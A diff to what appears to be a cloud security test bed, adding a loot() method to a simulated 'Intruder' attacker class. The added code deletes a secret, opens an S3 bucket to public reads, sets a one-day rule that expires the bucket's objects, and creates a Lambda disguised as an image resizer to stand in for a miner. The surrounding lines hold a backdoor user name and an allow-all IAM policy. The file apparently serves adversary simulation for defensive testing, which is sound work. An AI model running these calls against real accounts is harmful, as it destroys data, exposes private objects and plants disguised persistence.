@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
+import io
 import json
 import time
+import zipfile
 
 from tests.beds.bed import Bed, Credentials
 from tests.beds.company import Company
 from tests.beds.loops import Attacker
 
-BACK_DOOR = "svc-backup"
+BACK_DOOR, MINER = "svc-backup", "image-resize"
 _EVERY = 5  # turns
 _ALL = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
 # Loop kind -> what a reader calls it.
@@ -49,6 +51,21 @@ class Intruder(Attacker):
         self._held.append(("backdoor", door))
         self._held.append(("backdoor", Credentials.of(session["Credentials"])))
         self._door = door
+
+    def loot(self, bucket: str, secret: str, role: str) -> None:
+        """What outlives its credentials: a secret and a bucket's objects on their way to deletion, the bucket opened to everybody, a function that mines."""
+        code = io.BytesIO()
+        with zipfile.ZipFile(code, "w") as archive:
+            archive.writestr("h.py", "def h(event, context):\n    return 'mined'\n")
+        everybody = {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/*"}
+        rule = {"ID": "clean-up", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}
+        client = lambda service: self._bed.client(service, self._key)  # noqa: E731 - these requests are not ones of the loop
+        client("secretsmanager").delete_secret(SecretId=secret, RecoveryWindowInDays=7)
+        client("s3").put_bucket_policy(Bucket=bucket, Policy=json.dumps({"Version": "2012-10-17", "Statement": [everybody]}))
+        client("s3").put_bucket_lifecycle_configuration(Bucket=bucket, LifecycleConfiguration={"Rules": [rule]})
+        client("lambda").create_function(
+            FunctionName=MINER, Runtime="python3.12", Role=role, Handler="h.h", Code={"ZipFile": code.getvalue()}
+        )
 
     @property
     def held(self) -> int:
